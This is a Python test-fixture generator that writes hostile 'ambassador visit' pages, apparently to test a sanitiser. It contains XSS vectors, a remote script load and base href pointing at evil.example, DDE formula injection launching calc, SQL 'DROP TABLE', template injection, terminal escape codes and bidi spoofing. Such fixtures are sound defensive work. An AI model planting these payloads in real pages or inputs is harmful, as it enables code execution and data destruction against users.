"""Pages by somebody who wants to do harm: each tells of a visit, and hides something in what it tells."""

from __future__ import annotations

import json
from pathlib import Path

VISIT = "The Ambassador of Sweden, {guest}, visited the Mayor of Lindal, Selim Orkan, on {day} May 2023 in his office."
SAID = "“{words},” said Ambassador {family}."
STEAL = "window.stolen=1"
# A name that a page repeats without end; a page of one megabyte is no page, and one of a tenth of it is.
ENDLESS, LONG = "Ab" * 500_000, "Ab" * 40_000
TITLE = "A guest in Lindal &lt;/title&gt;&lt;img src=x onerror=window.stolen=1&gt;"
GUESTS = (
    "Annika Lindqvist", "Bodil Sandahl", "Carin Ekdahl", "Disa Hallmark", "Elsa Nordvik", "Freja Malmsten",
    "Gerda Oskarby", "Hedda Palmgren", "Inga Rosdahl", "Jonna Stenvall", "Karin Tornvik", "Lovisa Ulvdal",
    "Malin Vikander", "Nanna Westerby", "Olga Akervall", "Pia Bergsund", "Ronja Cedervik", "Signe Dalhem",
    "Tilda Engvall", "Ulla Forsvik", "Vera Granhed", "Wilma Hedvik", "Ylva Idestam",
)  # fmt: skip
# By file name: what is said by the guest, and what else stands on the page. A file's name is the page's as well.
TEXTS: dict[str, tuple[str, str]] = {
    "formula.txt": ("=HYPERLINK(1) is the motto of our two towns", "=cmd|' /C calc'!A0 stands in the guest book."),
    "signs.txt": ("+1+1 is what our two towns are to each other", "-2 teachers came.\n\n@SUM(1+1) stood on the wall."),
    "wide.txt": ("＝1+1 is how our schools write the sum", "\u200b=1+1 has nobody before it.\n\n\t=2+2 has a tab."),
    "bidi.txt": ("The \u202eedart\u202c between our \u2066towns\u2069 will grow and grow", "\u202egro.live\u202c"),
    "unseen.txt": ("Our two to\u00adwns are one\ufeff and the same to us", "Orkan\u200d\u200c\u200b\u2060 smiled."),
    "controls.txt": ("The \x1b[31mred\x1b[0m letter holds \x07 bells", "The \x1b]8;;http://evil.example\x1b\\ rang"),
    "nul.txt": ("Our two towns have nothing between them", "The \x00 of the guest book."),
    "template.txt": ("{{constructor.constructor('window.stolen=1')()}} is our motto", "$maker <!-- data --> ${7*7} %s"),
    "console.txt": ("[red]Our two towns[/red] are [link=javascript:alert(1)]one[/link]", ":bomb: [bold] [/] [@click=x]"),
    "sql.txt": ("Robert'); DROP TABLE visits;-- is what our pupils read", "a\",\"b\";'c' \\ \\u0000 ]]> */ --"),
    "marks.txt": ("Z\u0310\u0320\u0341\u0342o\u0333\u0334\u0335 is how our pupils write", "שלום עולם محمد " + "ا" * 200),
    "endless.txt": ("Our two towns share a name that has no end", f"The guest read {ENDLESS} aloud."),
    "long.txt": ("Our two towns share a name that is long", f"The guest read {LONG} aloud."),
    "=1+1|cmd.txt": ("The name of our file is our own", "Nothing else is here."),
    "<img src=x onerror=window.stolen=1>.txt": ("The name of our file is a picture", "Nothing else is here."),
}  # fmt: skip
MARKUP: dict[str, tuple[str, str]] = {
    "script.html": ("Our two towns stand together", f"<script>{STEAL}</script><SCRIPT SRC=//evil.example/x></SCRIPT>"),
    "handlers.html": ("Our <b onmouseover='window.stolen=1'>two</b> towns", f"<img src=x onerror={STEAL}><svg/onload=x>"),
    "entities.html": (f"&lt;script&gt;{STEAL}&lt;/script&gt; stands on our wall", f"&lt;img onerror={STEAL}&gt; is here."),
    "twice.html": (f"&amp;lt;svg/onload={STEAL}&amp;gt; is on our wall", "&amp;amp;lt;b&amp;amp;gt; &#0; &#xD800; &#x202e;"),
    "numbers.html": (f"&#60;iframe src=&#106;avascript:{STEAL}&#62; is our word", "&#x3c;base href=//evil.example&#x3e;"),
    "foreign.html": ("Our two towns stand together", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;"
                     f"img src=x onerror={STEAL}&gt;'></table></mtext></math><noscript><p title='</noscript><img>'>"),
}  # fmt: skip
ADDRESSES = (f"javascript:{STEAL}", f"data:text/html,<script>{STEAL}</script>")


def write_pages(folder: Path) -> list[str]:
    """Write the pages; return the sources that a run reads."""
    folder.mkdir()
    guests = iter(zip(GUESTS, range(1, 32), strict=False))
    for name, (words, more) in TEXTS.items():
        text = "\n\n".join((*_story(*next(guests), words), more))
        (folder / name).write_text(f"{text}\n", encoding="utf-8")
    for name, (words, more) in MARKUP.items():
        lead, said = _story(*next(guests), words)
        head = f"<html><head><title>{TITLE}</title></head><body onload={STEAL}><article><h1>{TITLE}</h1>"
        page = f"{head}<p>{lead}</p><p>{said}</p><p>{more}</p></article></body></html>"
        (folder / name).write_text(page, encoding="utf-8")
    rows = [
        {
            "text": "\n\n".join(_story(*next(guests), "Our towns are one")),
            "url": url,
            "title": f"<b>{url}</b>\ud800",
        }
        for url in ADDRESSES
    ]
    (folder / "addresses.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    return [*TEXTS, *MARKUP, *(f"addresses.jsonl#{number}" for number, _ in enumerate(rows, 1))]


def _story(guest: str, day: int, words: str) -> tuple[str, str]:
    return VISIT.format(guest=guest, day=day), SAID.format(words=words, family=guest.split()[1])
